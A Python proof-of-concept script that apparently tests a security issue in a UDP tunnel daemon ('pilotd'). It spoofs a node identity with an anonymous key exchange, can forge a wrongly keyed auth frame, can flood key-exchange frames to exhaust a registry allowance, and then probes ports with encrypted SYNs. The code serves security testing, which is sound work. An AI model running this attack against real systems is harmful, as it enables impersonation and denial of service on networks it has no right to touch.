#!/usr/bin/python3
"""An attacker with nothing but UDP access to a pilotd (issue 12): claim a node ID
with an anonymous key exchange (PILK), derive the session from the victim's answer
and send stream SYNs under that ID; report which ports answer SYN-ACK.

  attack HOST PORT CLAIM VICTIM SECS [--flood N] [--ports P,P...]
      --flood N: first N PILKs claiming random node IDs (each makes the victim ask
      the registry for a key, which can exhaust its registry allowance).
      --pila: before the PILK, a PILA claiming CLAIM signed by a fresh key of our
      own (valid signature, wrong key: an unverified PILA).
      Prints one JSON line: {"session": bool, "synack": [ports], "rst": [ports]}.
      "session": some PILS from the victim decrypted (it installed a session for CLAIM).

Needs python3-cryptography (X25519, AES-256-GCM); run with /usr/bin/python3.
Wire formats: shared/spec/tunnel.md §3-§5, packet.md §3-§5.
"""
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time
import zlib

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives import serialization

SYN, ACK, FIN, RST = 1, 2, 4, 8


def pilk(node, pub):
    return b"PILK" + struct.pack(">I", node) + pub


def raw(pub_or_priv_key):
    return pub_or_priv_key.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)


def pila(node, xpub):
    """tunnel.md §3.2: signed "auth" || node || X25519 key, by a key that is not node's."""
    ed = Ed25519PrivateKey.generate()
    body = struct.pack(">I", node) + xpub
    return b"PILA" + body + raw(ed.public_key()) + ed.sign(b"auth" + body)


def packet(flags, proto, src, dst, sport, dport, seq=0, ack=0, win=64, payload=b""):
    hdr = struct.pack(">BBH HI HI HH II H I", 0x10 | flags, proto, len(payload),
                      0, src, 0, dst, sport, dport, seq, ack, win, 0)
    crc = zlib.crc32(hdr + payload) & 0xFFFFFFFF
    return hdr[:30] + struct.pack(">I", crc) + payload


def parse(pkt):
    if len(pkt) < 34:
        return None
    b0, proto, plen, _sn, src, _dn, dst, sport, dport = struct.unpack(">BBH HI HI HH", pkt[:20])
    return {"flags": b0 & 0x0F, "proto": proto, "src": src, "dst": dst, "sport": sport,
            "dport": dport}


class Session:
    """Both KDF variants (tunnel.md §4); we send with ref, open with either."""

    def __init__(self, shared, me):
        self.ref = AESGCM(hashlib.sha256(b"pilot-tunnel-v1:" + shared).digest())
        prk = hmac.new(b"\0" * 32, shared, hashlib.sha256).digest()
        self.new = AESGCM(hmac.new(prk, b"pilot-tunnel-v1\x01", hashlib.sha256).digest())
        self.me = me
        self.prefix = os.urandom(4)
        self.ctr = 0

    def seal(self, pkt):
        self.ctr += 1
        nonce = self.prefix + struct.pack(">Q", self.ctr)
        return b"PILS" + struct.pack(">I", self.me) + nonce + self.ref.encrypt(nonce, pkt, None)

    def open(self, frame):
        node = frame[4:8]
        nonce, ct = frame[8:20], frame[20:]
        for aead, aad in ((self.ref, None), (self.new, node)):
            try:
                return aead.decrypt(nonce, ct, aad)
            except Exception:
                pass
        return None


def attack(host, port, claim, victim, secs, flood=0, ports=(7, 444), first_pila=False):
    dst = (host, int(port))
    claim, victim, secs = int(claim), int(victim), float(secs)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    for i in range(flood):  # bounded: N frames, ~400/s
        s.sendto(pilk(int.from_bytes(os.urandom(4), "big") | 0x40000000, os.urandom(32)), dst)
        if i % 10 == 9:
            time.sleep(0.025)
    priv = X25519PrivateKey.generate()
    pub = raw(priv.public_key())
    if first_pila:
        s.sendto(pila(claim, pub), dst)
        time.sleep(0.3)
    sess, session, synack, rst = None, False, set(), set()
    end = time.time() + secs
    next_send = 0.0
    s.settimeout(0.1)
    while time.time() < end:
        now = time.time()
        if now >= next_send:
            next_send = now + 1.0
            if sess is None:
                s.sendto(pilk(claim, pub), dst)
            else:
                for i, p in enumerate(ports):
                    if p not in synack:
                        s.sendto(sess.seal(packet(SYN, 1, claim, victim, 40000 + i, p)), dst)
        try:
            data, src = s.recvfrom(70000)
        except socket.timeout:
            continue
        if src != dst or len(data) < 8:
            continue
        magic, node = data[:4], struct.unpack(">I", data[4:8])[0]
        if magic in (b"PILA", b"PILK") and node == victim and len(data) >= 40:
            try:
                shared = priv.exchange(X25519PublicKey.from_public_bytes(data[8:40]))
            except Exception:
                continue
            if sess is None:
                sess = Session(shared, claim)
                next_send = 0.0
        elif magic == b"PILS" and node == victim and sess is not None:
            pkt = sess.open(data)
            if pkt is None:
                continue
            session = True
            h = parse(pkt)
            if h and h["proto"] == 1 and h["src"] == victim and h["dst"] == claim:
                if h["flags"] & (SYN | ACK) == SYN | ACK:
                    synack.add(h["sport"])
                elif h["flags"] & RST:
                    rst.add(h["sport"])
        if session and all(p in synack for p in ports):
            break
    print(json.dumps({"session": session, "synack": sorted(synack), "rst": sorted(rst)}))


def main():
    a = sys.argv[1:]
    if len(a) < 6 or a[0] != "attack":
        sys.exit(__doc__)
    flood, ports, first_pila = 0, (7, 444), False
    rest = a[6:]
    while rest:
        if rest[0] == "--pila":
            first_pila = True
            rest = rest[1:]
            continue
        if rest[0] == "--flood" and len(rest) > 1:
            flood = int(rest[1])
        elif rest[0] == "--ports" and len(rest) > 1:
            ports = tuple(int(x) for x in rest[1].split(","))
        else:
            sys.exit(__doc__)
        rest = rest[2:]
    attack(a[1], a[2], a[3], a[4], a[5], flood, ports, first_pila)


if __name__ == "__main__":
    main()
